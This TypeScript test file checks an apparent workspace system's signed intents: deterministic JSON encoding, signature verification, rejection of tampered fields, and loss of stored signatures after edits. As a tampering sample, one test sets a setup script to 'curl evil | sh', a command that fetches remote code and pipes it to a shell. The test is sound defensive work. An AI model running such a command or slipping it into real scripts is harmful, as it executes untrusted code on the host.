import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import {
  generateKeyPair,
  generateSigningKeyPair,
  intentVerifier,
  keyFingerprint,
  sealSecret,
  signIntent,
  signingKeyFingerprint,
  verifyIntent,
} from './crypto.ts';
import {
  IntentKind,
  bindingIntent,
  cancelIntent,
  canonicalJson,
  environmentSpecIntent,
  intentBytes,
  messageIntent,
  pushIntent,
  sealedCopyIntent,
  SIGNED_ENVIRONMENT_FIELDS,
  UNSIGNED_ENVIRONMENT_FIELDS,
  type SignedIntent,
} from './signed-intent.ts';
import { appendMessage, listMessages, readCancel, requestCancel, requestSignedCancel } from './task-doc.ts';
import { bumpGeneration, createBinding, getBinding, signBinding } from './workspace-bindings.ts';
import {
  createEnvironment,
  getEnvironment,
  patchEnvironment,
  signEnvironmentSpec,
  signSealedCopy,
  type Environment,
} from './workspace-environments.ts';
import { environmentCreateSchema } from './schemas.ts';
import { PREPARE_FIELDS } from './spec-hash.ts';

const decoder = new TextDecoder();

async function fixture() {
  const doc = new Y.Doc();
  const viber = await generateKeyPair();
  const box = await sealSecret('s3cret-value', viber.publicKey);
  const envId = createEnvironment(
    doc,
    environmentCreateSchema.parse({
      name: 'e',
      type: 'manual',
      setupScript: 'echo hi',
      vars: { B: '2', A: '1' },
      secrets: { TOKEN: { sealed: { vbr_1: box } } },
    }),
    1_000,
  );
  const bindingId = createBinding(doc, envId, { viberId: 'vbr_1', strategy: 'clone' }, 1_000);
  return { doc, envId, bindingId, viber };
}

describe('signed intent encoding', () => {
  it('[T1] is deterministic: sorted keys, no whitespace, the same bytes however the object was built', () => {
    expect(canonicalJson({ b: 1, a: { d: true, c: 'x' } })).toBe('{"a":{"c":"x","d":true},"b":1}');
    const a = messageIntent({ taskId: 't', environmentId: 'e', viberId: 'v', messageId: 'm', text: 'ls' });
    const b = { text: 'ls', messageId: 'm', viberId: 'v', environmentId: 'e', taskId: 't', kind: 'message' };
    expect(decoder.decode(intentBytes(a))).toBe(decoder.decode(intentBytes(b as SignedIntent)));
    // A pinned, known encoding: changing it breaks every signature already made.
    expect(decoder.decode(intentBytes(cancelIntent({ taskId: 't1', messageId: 'm1' })))).toBe(
      'openviber-intent/1\ncancel\n{"kind":"cancel","messageId":"m1","taskId":"t1"}',
    );
  });

  it('[T1] refuses what it cannot encode exactly (floats, non-finite numbers, functions)', () => {
    expect(() => canonicalJson({ generation: 1.5 })).toThrow(/generation must be a safe integer/);
    expect(() => canonicalJson({ n: Number.NaN })).toThrow(/safe integer/);
    expect(() => canonicalJson({ f: () => 1 })).toThrow(/cannot be encoded/);
  });

  it('[T1] an extra property given to a builder does not change the signed bytes', () => {
    const base = { taskId: 't', environmentId: 'e', viberId: 'v', messageId: 'm', text: 'ls' };
    const extra = { ...base, author: 'mallory' } as typeof base;
    expect(intentBytes(messageIntent(extra))).toEqual(intentBytes(messageIntent(base)));
  });

  it('[T1] the environment spec leaves out name, description and pin; covers vars and secret metadata', async () => {
    const { doc, envId } = await fixture();
    const before = environmentSpecIntent(getEnvironment(doc, envId)!);
    patchEnvironment(doc, envId, { name: 'renamed', description: 'd', pinned: true });
    expect(environmentSpecIntent(getEnvironment(doc, envId)!)).toEqual(before);
    expect(Object.keys(before.vars)).toEqual(['A', 'B']);
    expect(before.secrets).toEqual({ TOKEN: { scope: 'runtime', updatedAt: 1_000 } });
  });
});

describe('what an environment spec signature covers', () => {
  const env = {
    ...environmentCreateSchema.parse({ name: 'e', type: 'github', repoUrl: 'https://github.com/o/r.git' }),
    id: 'env_1',
    vars: { B: '2', A: '1' },
    secrets: { TOKEN: { scope: 'setup', updatedAt: 5, sealed: {}, signatures: {} } },
  } as unknown as Environment;
  const bytes = (e: Environment) => decoder.decode(intentBytes(environmentSpecIntent(e, 2)));

  it('[T1] every field of the environment schema is signed, or listed as unsigned with the reason', () => {
    const signed = new Set(Object.keys(environmentSpecIntent(env)));
    for (const field of Object.keys(environmentCreateSchema.shape)) {
      const unsigned = Object.hasOwn(UNSIGNED_ENVIRONMENT_FIELDS, field);
      expect(signed.has(field) !== unsigned, `${field}: signed or (exclusive) unsigned with a reason`).toBe(
        true,
      );
    }
    // What a prepare depends on is signed: one list, no copy to forget.
    for (const field of PREPARE_FIELDS) expect(SIGNED_ENVIRONMENT_FIELDS).toContain(field);
  });

  it('[T1] changing a signed field changes the signed bytes; changing an unsigned one does not', () => {
    const changed = (value: unknown) => (typeof value === 'boolean' ? !value : `${String(value)}x`);
    for (const field of SIGNED_ENVIRONMENT_FIELDS)
      expect(bytes({ ...env, [field]: changed(env[field]) }), field).not.toBe(bytes(env));
    for (const field of Object.keys(UNSIGNED_ENVIRONMENT_FIELDS) as (keyof Environment)[])
      expect(bytes({ ...env, [field]: changed(env[field]) }), field).toBe(bytes(env));
  });

  it('[T1] keeps its pinned bytes (a change would break every spec signature already made)', () => {
    expect(bytes(env)).toBe(
      'openviber-intent/1\nenvironment-spec\n{"agentCommand":"","containerImage":"","environmentId":"env_1",' +
        '"kind":"environment-spec","localPath":"","maintenanceScript":"","networkAccess":true,' +
        '"persistVolume":true,"repoBranch":"","repoUrl":"https://github.com/o/r.git",' +
        '"secrets":{"TOKEN":{"scope":"setup","updatedAt":5}},"setupMode":"auto","setupScript":"",' +
        '"specVersion":2,"type":"github","vars":{"A":"1","B":"2"},"workingDir":""}',
    );
  });
});

describe('signatures', () => {
  it('[T2] verifies for the signed intent only; any changed field breaks it', async () => {
    const keys = await generateSigningKeyPair();
    const { doc, envId, bindingId, viber } = await fixture();
    const env = getEnvironment(doc, envId)!;
    const intents: SignedIntent[] = [
      environmentSpecIntent(env, 3),
      bindingIntent(getBinding(doc, bindingId)!, viber.publicKey),
      bindingIntent({ ...getBinding(doc, bindingId)!, signedAt: 1_767_225_600_123 }, viber.publicKey),
      messageIntent({ taskId: 't', environmentId: envId, viberId: 'vbr_1', messageId: 'm', text: 'ls' }),
      cancelIntent({ taskId: 't', messageId: 'm' }),
      pushIntent({
        taskId: 't',
        environmentId: envId,
        viberId: 'vbr_1',
        requestId: 'push_1',
        branch: 'ov/fix',
        commitMessage: 'Fix it',
      }),
      sealedCopyIntent(env, 'TOKEN', 'vbr_1')!,
    ];
    for (const intent of intents) {
      const signature = await signIntent(intent, keys.privateKey);
      expect(await verifyIntent(intent, signature, keys.publicKey)).toBe(true);
      for (const [field, value] of Object.entries(intent)) {
        if (field === 'kind') continue;
        const changed =
          typeof value === 'number'
            ? value + 1
            : typeof value === 'boolean'
              ? !value
              : typeof value === 'string'
                ? value + 'x'
                : {
                    ...value,
                    EXTRA:
                      typeof Object.values(value)[0] === 'string' ? 'x' : { scope: 'setup', updatedAt: 1 },
                  };
        const tampered = { ...intent, [field]: changed } as SignedIntent;
        expect(await verifyIntent(tampered, signature, keys.publicKey), `${intent.kind}.${field}`).toBe(
          false,
        );
      }
    }
  });

  it('[T2] a signature over one kind never verifies as another kind with the same fields', async () => {
    const keys = await generateSigningKeyPair();
    const cancel = cancelIntent({ taskId: 't', messageId: 'm' });
    const signature = await signIntent(cancel, keys.privateKey);
    for (const kind of Object.values(IntentKind).filter((k) => k !== IntentKind.cancel))
      expect(
        await verifyIntent({ ...cancel, kind } as unknown as SignedIntent, signature, keys.publicKey),
      ).toBe(false);
  });

  it('[T2] another key, a malformed signature or key, and an unencodable intent all read false (never throw)', async () => {
    const keys = await generateSigningKeyPair();
    const other = await generateSigningKeyPair();
    const intent = cancelIntent({ taskId: 't', messageId: 'm' });
    const signature = await signIntent(intent, keys.privateKey);
    expect(await verifyIntent(intent, signature, other.publicKey)).toBe(false);
    expect(await verifyIntent(intent, '', keys.publicKey)).toBe(false);
    expect(await verifyIntent(intent, 'not base64!', keys.publicKey)).toBe(false);
    expect(await verifyIntent(intent, signature, 'AAAA')).toBe(false);
    const verify = await intentVerifier(keys.publicKey);
    expect(verify({ ...intent, messageId: 1.5 } as unknown as SignedIntent, signature)).toBe(false);
  });

  it('[T3] the signing key fingerprint has the X25519 fingerprint format and differs per key', async () => {
    const a = await generateSigningKeyPair();
    const b = await generateSigningKeyPair();
    expect(await signingKeyFingerprint(a.publicKey)).toMatch(/^[0-9a-f]{4}(:[0-9a-f]{4}){7}$/);
    expect(await signingKeyFingerprint(a.publicKey)).toBe(await keyFingerprint(a.publicKey));
    expect(await signingKeyFingerprint(a.publicKey)).not.toBe(await signingKeyFingerprint(b.publicKey));
  });
});

describe('signatures in the documents', () => {
  it('[T4] an edited execution spec and a bumped generation read as unsigned; a rename keeps the signature', async () => {
    const keys = await generateSigningKeyPair();
    const { doc, envId, bindingId } = await fixture();
    const sig = await signIntent(environmentSpecIntent(getEnvironment(doc, envId)!, 1), keys.privateKey);
    expect(signEnvironmentSpec(doc, envId, 1, sig)).toBe(true);
    patchEnvironment(doc, envId, { name: 'renamed' });
    expect(getEnvironment(doc, envId)!.specSignature).toBe(sig);
    patchEnvironment(doc, envId, { setupScript: 'curl evil | sh' });
    expect(getEnvironment(doc, envId)!.specSignature).toBe('');
    expect(getEnvironment(doc, envId)!.specVersion).toBe(1);

    expect(signBinding(doc, bindingId, 1, sig)).toBe(true);
    expect(getBinding(doc, bindingId)!.signature).toBe(sig);
    bumpGeneration(doc, bindingId);
    expect(getBinding(doc, bindingId)).toMatchObject({ generation: 2, signature: '' });
  });

  it('[T4] [S6] signatures of the wrong shape read as unsigned; old cancels (a number) still read', async () => {
    const { doc, envId } = await fixture();
    const env = Y.Doc.prototype.getMap.call(doc, 'environments').get(envId) as Y.Map<unknown>;
    env.set('specSignature', 12);
    env.set('specVersion', -4);
    expect(getEnvironment(doc, envId)).toMatchObject({ specSignature: '', specVersion: 0 });
    expect(signEnvironmentSpec(doc, envId, 1, 'short')).toBe(false);

    const task = new Y.Doc();
    const id = appendMessage(task, 'ls', 'api');
    expect(listMessages(task)[0]!.signature).toBe('');
    requestCancel(task, [id], 5);
    expect(readCancel(task, id)).toEqual({ at: 5, signature: '' });
    const keys = await generateSigningKeyPair();
    const sig = await signIntent(cancelIntent({ taskId: 't', messageId: id }), keys.privateKey);
    requestSignedCancel(task, id, sig, 6);
    expect(readCancel(task, id)).toEqual({ at: 6, signature: sig });
  });

  it('[T6] a replaced ciphertext loses the signature of the old one', async () => {
    const keys = await generateSigningKeyPair();
    const { doc, envId, viber } = await fixture();
    const copy = sealedCopyIntent(getEnvironment(doc, envId)!, 'TOKEN', 'vbr_1')!;
    expect(signSealedCopy(doc, envId, 'TOKEN', 'vbr_1', await signIntent(copy, keys.privateKey))).toBe(true);
    expect(getEnvironment(doc, envId)!.secrets.TOKEN!.signatures).toHaveProperty('vbr_1');
    const { addSealedCopy } = await import('./workspace-environments.ts');
    addSealedCopy(doc, envId, 'TOKEN', 'vbr_1', await sealSecret('planted', viber.publicKey));
    expect(getEnvironment(doc, envId)!.secrets.TOKEN!.signatures).toEqual({});
  });
});
